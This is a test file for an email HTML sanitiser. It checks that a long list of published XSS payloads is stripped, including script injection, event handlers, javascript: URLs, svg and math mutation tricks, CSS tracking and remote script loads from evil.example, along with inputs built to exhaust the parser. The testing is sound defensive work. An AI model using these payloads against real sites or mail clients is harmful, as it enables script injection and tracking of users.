import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
  allowedAttributes,
  allowedTags,
  deepestNesting,
  mostElements,
  sanitiseHtml,
  TooMuchHtml,
} from '../../../../server/channels/email/sanitise.ts';

const attribute = /\s([a-z-]+)(?:="([^"<>]*)")?/y;
const urlAttributes = new Set(['href', 'src', 'data-remote-src']);

/**
 * Reads the output by a grammar so narrow that any parser must read it in the same way: text without `<`,
 * and tags of allowed names with allowed, double-quoted attributes. What does not fit it is a failure.
 *
 * @returns the first thing that is not allowed, or null
 */
function firstForbidden(html: string): string | null {
  let at = 0;
  while (at < html.length) {
    const open = html.indexOf('<', at);
    const text = html.slice(at, open === -1 ? undefined : open);
    if (text.includes('>')) return `a bare > in ${text.slice(0, 80)}`;
    if (open === -1) return null;
    const closing = /<\/([a-z0-9]+)>/y;
    closing.lastIndex = open;
    const closed = closing.exec(html);
    if (closed) {
      if (!allowedTags.includes(closed[1]!)) return closed[0];
      at = closing.lastIndex;
      continue;
    }
    const opening = /<([a-z0-9]+)/y;
    opening.lastIndex = open;
    const opened = opening.exec(html);
    if (!opened || !allowedTags.includes(opened[1]!)) return html.slice(open, open + 80);
    at = opening.lastIndex;
    for (;;) {
      attribute.lastIndex = at;
      const found = attribute.exec(html);
      if (!found) break;
      const [whole, name = '', value = ''] = found;
      const forbidden = forbiddenAttribute(opened[1]!, name, value);
      if (forbidden) return `${forbidden}: ${whole}`;
      at = attribute.lastIndex;
    }
    const end = /\s?\/?>/y;
    end.lastIndex = at;
    if (!end.test(html)) return html.slice(open, at + 40);
    at = end.lastIndex;
  }
  return null;
}

function forbiddenAttribute(tag: string, name: string, escaped: string): string | null {
  if (![...allowedAttributes['*']!, ...(allowedAttributes[tag] ?? [])].includes(name)) return 'attribute';
  const value = escaped
    .replaceAll('&quot;', '"')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&amp;', '&');
  if (name === 'style' && /url|expression|image|import|position|behavio|[\\@<>{}]|\/\*/i.test(value))
    return 'style';
  if (name === 'target' && value !== '_blank') return 'target';
  if (name === 'rel' && value !== 'noopener noreferrer') return 'rel';
  if (!urlAttributes.has(name)) return null;
  if (name === 'src') return /^(cid:|data:image\/(png|jpeg|gif|webp);base64,)/.test(value) ? null : 'src';
  const schemes = name === 'href' ? /^(https?|mailto|tel):/ : /^https?:/;
  return schemes.test(value) && !/[\p{Cc} ]/u.test(value) ? null : 'scheme';
}

/** Ways to run a script, load something, or reach into the page, as published lists have them. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src="//evil.example/x.js"></script>',
  '<script>alert(1)',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img src="https://t.example/1.png" srcset="https://t.example/2.png 2x, javascript:alert(1) 3x">',
  '<img srcset="https://t.example/a.png" sizes="100vw">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<img src="data:image/png;base64,AAAA&quot; onerror=&quot;alert(1)">',
  '<img data-remote-src="javascript:alert(1)">',
  '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
  '<picture><source srcset="https://t.example/a.png"><img src=x></picture>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/omega/session/expire">x</a>',
  '<a href="#" onclick="alert(1)" ping="https://t.example">x</a>',
  '<a href="https://evil.example" target="_self" rel="opener">x</a>',
  '<area href="javascript:alert(1)"><map name=m><area shape=default href=javascript:alert(1)></map>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
  '<textarea><a title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><p title="</xmp><script>alert(1)</script>"></xmp>',
  '<noembed><p title="</noembed><script>alert(1)</script>"></noembed>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  '<plaintext><script>alert(1)</script>',
  '<template><img src=x onerror=alert(1)></template>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url(https://t.example/1.png)}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=prefetch href="https://t.example/1">',
  '<p style="background:url(https://t.example/1.png)">x</p>',
  '<p style="background-image:u\\72l(https://t.example/1.png)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="wid/**/th:exp/**/ression(alert(1))">x</p>',
  '<p style="behavior:url(#default#time2)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
  '<p style="margin-top:-500px">x</p>',
  '<p style="direction:ltr;direction:ltrurl(https://t.example)">x</p>',
  '<p style="color:red&quot; onmouseover=&quot;alert(1)">x</p>',
  '<p style=\'font-family:"}*{background:url(https://t.example)}"\'>x</p>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Set-Cookie" content="omega_session=x">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password type=password><button formaction="javascript:alert(1)">x</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<button onclick=alert(1) popovertarget=x>x</button>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code=x></applet>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1) background="https://t.example/1.png">',
  '<table background="javascript:alert(1)"><td background="https://t.example/1.png">x</table>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<p id=location name=cookie class=admin>x</p>',
  '<p title="</p><script>alert(1)</script>">x',
  "<p title='\"><script>alert(1)</script>'>x",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!-- unclosed <script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<?php echo "<script>alert(1)</script>" ?>',
  '<%<script>alert(1)</script>%>',
  '<p/onclick=alert(1)//>x',
  '<p onclick\u0000=alert(1)>x',
  '<p \u000conclick=alert(1)>x',
  '<b onmouseover="alert(1)" "onclick=alert(1)>x',
  '<a href="https://x.example" href="javascript:alert(1)">x</a>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<custom-element onconnected=alert(1)>x</custom-element>',
  '</p><script>alert(1)</script>',
  '<p><b></p></b><script',
  '<img src=x onerror=alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
];

describe('hostile HTML', () => {
  test.each(attacks)('%s', (attack) => {
    for (const html of [attack, `<table><tr><td>${attack}`, `<p>before</p>${attack}<p>after</p>`]) {
      const clean = sanitiseHtml(html);
      expect(firstForbidden(clean)).toBeNull();
      expect(sanitiseHtml(clean)).toBe(clean);
    }
  });

  const scrap = fc.constantFrom(
    ...attacks,
    ...[
      '<',
      '>',
      '"',
      "'",
      '`',
      '=',
      '/',
      '&',
      '&lt;',
      '&#60;',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '\0',
      '\t',
    ],
    ...[
      '<p ',
      '<a href=',
      'javascript:',
      ' style="',
      'url(',
      'onerror=',
      '</',
      '</style>',
      '</title>',
      '<svg>',
    ],
    ...[
      '<math>',
      '<style>',
      '<noscript>',
      '<template>',
      '<table>',
      '<select>',
      'x',
      ' ',
      'https://x.example',
    ],
  );

  test('whatever is put together of its pieces, only what is allowed comes out, and again only that of it', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(scrap, fc.string({ unit: 'binary', maxLength: 8 })), { maxLength: 12 }),
        (scraps) => {
          const clean = sanitiseHtml(scraps.join(''));
          expect(firstForbidden(clean)).toBeNull();
          expect(firstForbidden(sanitiseHtml(clean))).toBeNull();
        },
      ),
      { numRuns: 3_000 },
    );
  });

  test('any tag and attribute by name: only those of the list come out', () => {
    const name = fc.oneof(
      fc.constantFrom(...allowedTags, 'script', 'svg', 'iframe', 'form', 'input', 'constructor', '__proto__'),
      fc.stringMatching(/^[a-z][a-z0-9:-]{0,11}$/),
    );
    const attr = fc.oneof(
      fc.constantFrom(
        'href',
        'src',
        'style',
        'onclick',
        'id',
        'title',
        'width',
        'data-remote-src',
        '__proto__',
      ),
      fc.stringMatching(/^[a-z][a-z:-]{0,11}$/),
    );
    const value = fc.oneof(
      fc.constantFrom('javascript:alert(1)', 'https://x.example/a b', 'color:red;x:url(y)', 'cid:a@b', '10'),
      fc.string({ unit: 'binary', maxLength: 20 }).map((text) => text.replaceAll('"', '&quot;')),
    );
    fc.assert(
      fc.property(name, fc.array(fc.tuple(attr, value), { maxLength: 4 }), (tag, attributes) => {
        const html = `<${tag}${attributes.map(([a, v]) => ` ${a}="${v}"`).join('')}>x</${tag}>`;
        expect(firstForbidden(sanitiseHtml(html))).toBeNull();
      }),
      { numRuns: 3_000 },
    );
  });

  test('the check itself sees what is not allowed', () => {
    for (const bad of [
      '<script>x</script>',
      '<p onclick="x">y</p>',
      '<a href="javascript:x">y</a>',
      '<p title=x>y</p>',
      'a > b',
      '<img src="https://t.example/1.png" />',
      '<p style="background:url(x)">y</p>',
      '<p title="a<b">',
      '<p',
    ])
      expect(firstForbidden(bad)).not.toBeNull();
    expect(firstForbidden('<p title="a">b &lt; c</p><br />')).toBeNull();
  });
});

describe('what people write stays', () => {
  test.each([
    ['<p>Hello <b>you</b></p>', '<p>Hello <b>you</b></p>'],
    [
      '<a href="https://l.example/a?b=1&amp;c=2">x</a>',
      '<a href="https://l.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">x</a>',
    ],
    [
      '<a href="mailto:a@b.example?subject=Hi">x</a>',
      '<a href="mailto:a@b.example?subject=Hi" target="_blank" rel="noopener noreferrer">x</a>',
    ],
    [
      '<img src="https://l.example/a.png" alt="A" width=10>',
      '<img data-remote-src="https://l.example/a.png" alt="A" width="10" />',
    ],
    ['<img src="cid:logo@l.example">', '<img src="cid:logo@l.example" />'],
    ['<img src="data:image/png;base64,iVBORw0KGgo=">', '<img src="data:image/png;base64,iVBORw0KGgo=" />'],
    [
      '<td style="padding: 4px 8px; COLOR:#fff; position:absolute; border:1px solid rgb(1, 2, 3)">x</td>',
      '<td style="padding:4px 8px;border:1px solid rgb(1, 2, 3)">x</td>',
    ],
    ['<html><head><title>T</title><style>p{}</style></head><body><p>x</p></body></html>', '<p>x</p>'],
    ['1 < 2 & 3 > 2', '1 &lt; 2 &amp; 3 &gt; 2'],
    ['Füße 👍🏽 مرحبا', 'Füße 👍🏽 مرحبا'],
    ['', ''],
  ])('%s', (html, shown) => {
    expect(sanitiseHtml(html)).toBe(shown);
  });

  test('an image of more than 100 kB in the HTML itself is left out', () => {
    expect(sanitiseHtml(`<img alt="x" src="data:image/png;base64,${'A'.repeat(100_000)}">`)).toBe(
      '<img alt="x" />',
    );
  });
});

describe('HTML made to keep a parser busy', () => {
  test('that nests deeper than 500 elements is refused at its 501st', () => {
    expect(sanitiseHtml('<div>'.repeat(deepestNesting))).toContain('<div>');
    for (const tag of ['<div>', '<ul><li>', '<svg><p>', '<b style="color:red">']) {
      expect(() => sanitiseHtml(tag.repeat(100_000))).toThrow(TooMuchHtml);
    }
  });

  test.each([
    '<',
    '&',
    '<a href=',
    '<!--',
    '<td>',
    '<img src=x onerror=1>',
    '<x y="',
    '</b>',
    '<p style="color:',
  ])('a megabyte of %s is read to its end, or refused before it', (piece) => {
    try {
      sanitiseHtml(piece.repeat(Math.ceil(1_048_576 / piece.length)));
    } catch (error) {
      expect(error).toBeInstanceOf(TooMuchHtml);
    }
  });

  test('that has more than 20,000 elements, or three attributes for each, is refused; a long newsletter is not', () => {
    const cell = '<td align="left" style="color:red;padding:4px"><a href="https://x.example/">x</a></td>';
    expect(
      firstForbidden(sanitiseHtml(`<table><tr>${cell.repeat(mostElements / 2 - 2)}</tr></table>`)),
    ).toBeNull();
    for (const html of [
      '<p>x</p>'.repeat(mostElements + 1),
      '</p>'.repeat(mostElements + 1),
      `<p ${Array.from({ length: 60_001 }, (_, i) => `a${i}=1`).join(' ')}>`,
      '<'.repeat(1_000_000),
    ])
      expect(() => sanitiseHtml(html)).toThrow(TooMuchHtml);
  });

  test('whose styles are without end is cleaned, and keeps the first of them', () => {
    const clean = sanitiseHtml(`<p style="${'color:red;'.repeat(150)}">x</p>`.repeat(1_000));
    expect(firstForbidden(clean)).toBeNull();
    expect(clean).toContain('<p style="color:red');
    expect(clean.endsWith('<p>x</p>')).toBe(true);
  });
});
